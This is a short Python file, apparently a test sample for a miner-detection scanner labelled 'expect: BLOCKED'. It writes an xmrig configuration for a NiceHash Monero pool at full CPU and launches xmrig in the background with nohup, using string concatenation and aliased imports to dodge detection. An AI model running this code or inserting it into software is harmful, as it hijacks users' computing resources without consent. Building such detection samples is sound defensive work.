# expect: BLOCKED category: miner variant-of: risky/miner/config_json.py technique: alias+concat
import json as _m0
import subprocess as _m1
config = {'p' + 'o' + 'o' + 'l' + 's': [{'u' + 'r' + 'l': 'stratum+ssl://ra' + 'ndomxmonero.auto' + '.nicehash.com:44' + '3', 'u' + 's' + 'e' + 'r': '3Hk1' + '...w' + 'orke' + 'r', 't' + 'l' + 's': True}], 'c' + 'p' + 'u': {'max-t' + 'hread' + 's-hin' + 't': 100}}
with open('con' + 'fig' + '.js' + 'on', 'w') as handle:
    _m0.dump(config, handle)
_m1.Popen(['n' + 'o' + 'h' + 'u' + 'p', './' + 'xm' + 'ri' + 'g', '-' + 'c', 'con' + 'fig' + '.js' + 'on'])
